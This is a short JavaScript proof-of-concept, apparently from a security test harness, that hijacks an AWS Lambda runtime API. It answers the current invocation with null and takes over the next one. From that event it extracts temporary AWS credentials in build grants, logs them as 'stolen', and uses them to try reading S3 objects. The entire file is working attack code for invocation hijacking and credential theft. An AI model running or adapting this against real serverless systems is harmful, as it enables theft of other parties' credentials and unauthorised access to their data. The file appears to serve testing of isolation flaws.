import { findRunner } from './find-runner.mjs'

// A command that answers the runtime API in the runner's place receives the next invocation.
const { env } = findRunner()
const invocation = `http://${env.AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation`
const answered = await fetch(`${invocation}/${process.env.AWS_REQUEST_ID}/response`, {
  method: 'POST',
  body: 'null',
})
console.log(`answered ${answered.status}`)
const event = await (await fetch(`${invocation}/next`)).json()
const { build, grants } = JSON.parse(event.Records[0].Sns.Message)
const { credentials, ...rest } = grants
// Without the credentials: the log is public.
console.log(`stolen ${JSON.stringify({ project: build.project, trust: build.trust, ...rest })}`)

Object.assign(process.env, {
  AWS_ACCESS_KEY_ID: credentials.accessKeyId,
  AWS_SECRET_ACCESS_KEY: credentials.secretAccessKey,
  AWS_SESSION_TOKEN: credentials.sessionToken,
  AWS_REGION: env.AWS_REGION,
})
const { GetObjectCommand, S3Client } = await import(
  `${process.env.MODULES}/@aws-sdk/client-s3/dist-cjs/index.js`
)
const bucket = new S3Client({
  endpoint: env.AWS_ENDPOINT_URL_S3,
  forcePathStyle: true,
  maxAttempts: 1,
})
for (const key of JSON.parse(process.env.KEYS)) {
  const got = await bucket.send(new GetObjectCommand({ Bucket: process.env.BUCKET, Key: key })).then(
    () => 200,
    error => error.$metadata?.httpStatusCode ?? String(error),
  )
  console.log(`tried ${key} ${got}`)
}
